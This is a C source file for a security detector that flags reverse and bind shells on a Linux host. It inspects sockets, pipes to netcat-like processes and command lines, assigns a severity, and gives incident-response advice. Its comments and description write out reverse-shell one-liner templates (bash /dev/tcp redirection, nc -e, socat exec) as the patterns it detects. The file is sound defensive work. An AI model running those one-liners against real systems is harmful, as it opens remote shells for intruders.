/*
 * det_res_revshell.c - RM-RES-003: a reverse (or bind) shell.
 *
 * Signals: a shell or interpreter (sh, bash, dash, zsh, ash, busybox,
 * python, perl, php ...) whose stdin or stdout is a TCP/UDP socket (the
 * socket's inode from /proc/PID/fd/0-1 mapped to the socket table names
 * the peer); a shell whose stdin/stdout are pipes shared with an nc,
 * socat, openssl s_client or telnet process that holds an established
 * connection (the mkfifo form); and one-liners in a command line:
 * `bash -i >& /dev/tcp/H/P 0>&1`, `nc -e /bin/sh`, `socat exec:'bash -li'
 * tcp:H:P`, python/perl/php socket+spawn.
 *
 * A socket to a non-loopback peer is critical; to loopback, high; a
 * command line alone, high.  A session shell sshd started has a pty (or
 * pipes to sshd) as stdio and is never reported; a shell whose stdio is
 * an AF_UNIX socket (not in the TCP/UDP table) is not reported either.
 */
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>

#include "../collect/access_parse.h"
#include "../collect/sock_parse.h"
#include "../core/xmalloc.h"
#include "access_util.h"
#include "detect_util.h"
#include "detector.h"

static const char *const inetd_names[] = { "inetd", "xinetd", NULL };

/* The peer of a stdio socket: the TCP/UDP socket with that inode that has
 * a remote end. */
static const struct sock *
stdio_peer(const struct snapshot *s, const struct proc *p, int *fd)
{
	for (int i = 0; i < 2; i++) {
		const struct sock *k;
		static const uint8_t zero[16];

		if (p->stdio_kind[i] != FDK_SOCKET)
			continue;
		k = acc_sock_by_inode(s, p->stdio_ino[i], p->ns_net);
		if (k == NULL || (k->rport == 0 && memcmp(k->raddr, zero,
		    16) == 0))
			continue;
		*fd = i;
		return k;
	}
	return NULL;
}

static bool
shares_pipe(const struct proc *a, const struct proc *b)
{
	for (int i = 0; i < 3; i++) {
		if (a->stdio_kind[i] != FDK_PIPE || a->stdio_ino[i] == 0)
			continue;
		for (int j = 0; j < 3; j++)
			if (b->stdio_kind[j] == FDK_PIPE &&
			    b->stdio_ino[j] == a->stdio_ino[i])
				return true;
	}
	return false;
}

/* A netcat-like relative (parent, sibling, child) sharing a pipe with p
 * and holding an established connection. */
static const struct proc *
pipe_partner(const struct snapshot *s, const struct proc *p,
	     const struct sock **peer)
{
	if (p->stdio_kind[0] != FDK_PIPE && p->stdio_kind[1] != FDK_PIPE)
		return NULL;
	for (size_t i = 0; i < s->nprocs; i++) {
		const struct proc *q = &s->procs[i];
		struct acc_net net;
		size_t bl;
		const char *b;

		if (q == p || (q->ppid != p->ppid && q->pid != p->ppid &&
		    q->ppid != p->pid) || q->nsock_inodes == 0)
			continue;
		b = acc_proc_base(q, &bl);
		if (!acc_is_netcat(b, bl) || !shares_pipe(p, q))
			continue;
		acc_proc_net(s, q, &net);
		if (net.nout) {
			*peer = net.out[0];
			return q;
		}
	}
	return NULL;
}

static void
check(const struct detector *d, const struct snapshot *s,
      const struct fact *fa, struct findings *out)
{
	const struct proc *p = fa->u.proc;
	size_t bl;
	const char *b;
	const struct sock *peer = NULL;
	const struct proc *partner = NULL;
	const char *oneliner = NULL;
	bool shell;
	int fd = -1;
	struct finding *f;
	char ep[80];
	enum severity sev;

	if ((p->flags & PF_KTHREAD_FLAG) || p->cmdline == NULL)
		return;
	b = acc_proc_base(p, &bl);
	shell = acc_is_shell(b, bl) || acc_is_interpreter(b, bl) ||
	    (p->comm && (acc_is_shell(p->comm, strlen(p->comm)) ||
	    acc_is_interpreter(p->comm, strlen(p->comm))));
	if (shell)
		peer = stdio_peer(s, p, &fd);
	if (shell && peer == NULL && acc_is_shell(b, bl))
		partner = pipe_partner(s, p, &peer);
	oneliner = acc_revshell_cmd(p->cmdline, strlen(p->cmdline));
	if (peer == NULL && oneliner == NULL)
		return;

	if (peer) {
		acc_endpoint(peer, true, ep, sizeof(ep));
		if (partner)
			f = findings_add(out, d, "Shell %d (%.64s) is a reverse "
			    "shell: its stdio is piped to %.64s (pid %d), "
			    "connected to %s", (int)p->pid, p->comm,
			    partner->comm, (int)partner->pid, ep);
		else
			f = findings_add(out, d, "Shell %d (%.64s) is a reverse "
			    "shell: its %s is a network socket connected to %s",
			    (int)p->pid, p->comm, fd == 0 ? "stdin" : "stdout",
			    ep);
		sev = acc_addr_loopback(peer, true) ? SEV_HIGH : SEV_CRITICAL;
	} else {
		f = findings_add(out, d, "Process %d (%.64s) runs a reverse or "
		    "bind shell command: %s", (int)p->pid, p->comm, oneliner);
		sev = SEV_HIGH;
	}
	finding_set_process(f, p, s);
	f->severity = sev;
	f->confidence = peer ? CONF_HIGH : CONF_MEDIUM;
	if (peer) {
		char ip[64];

		finding_ev_str(f, "peer", ep);
		acc_endpoint(peer, false, ep, sizeof(ep));
		finding_ev_str(f, "local", ep);
		finding_ev_str(f, "proto", peer->proto == IPPROTO_UDP ? "udp" :
		    "tcp");
		finding_ev_int(f, "netns", (int64_t)peer->netns);
		sock_addr_str(peer, true, ip, sizeof(ip));
		f->dest_ip = xstrdup(ip);
		f->dest_port = peer->rport;
	}
	if (fd >= 0)
		finding_ev_str(f, "socket_fd", fd == 0 ? "stdin" : "stdout");
	if (partner) {
		finding_ev_int(f, "relay_pid", partner->pid);
		finding_ev_str(f, "relay_name", partner->comm);
		finding_ev_str(f, "form", "pipes to a network client (mkfifo)");
	}
	if (oneliner)
		finding_ev_str(f, "command_form", oneliner);
	if (acc_ancestor(s, p, inetd_names)) {
		f->severity = SEV_MEDIUM;
		finding_ev_str(f, "note", "started by inetd: a service script "
		    "whose stdio is the accepted connection");
	}
}

const struct detector det_res_revshell = {
	.id = "RM-RES-003",
	.name = "Reverse shell",
	.category = CAT_ACCESS_RESALE,
	.severity = SEV_CRITICAL,
	.techniques = TECHNIQUES("T1059.004", "T1059.006", "T1095"),
	.description = "A shell or interpreter whose stdin/stdout is a network "
	    "connection (directly or through an nc/socat pipe), or a reverse "
	    "shell one-liner (/dev/tcp, nc -e, socat exec:).",
	.remediation = "Someone is typing on this server now. Record the peer "
	    "address and the process tree (ps -ef --forest), copy what the "
	    "shell runs, then kill the shell and its parent, block the peer, "
	    "and treat the host as compromised: find the entry point (web "
	    "app, exposed service, stolen key) before bringing it back.",
	.kinds = FACT_PROC,
	.check = check,
};
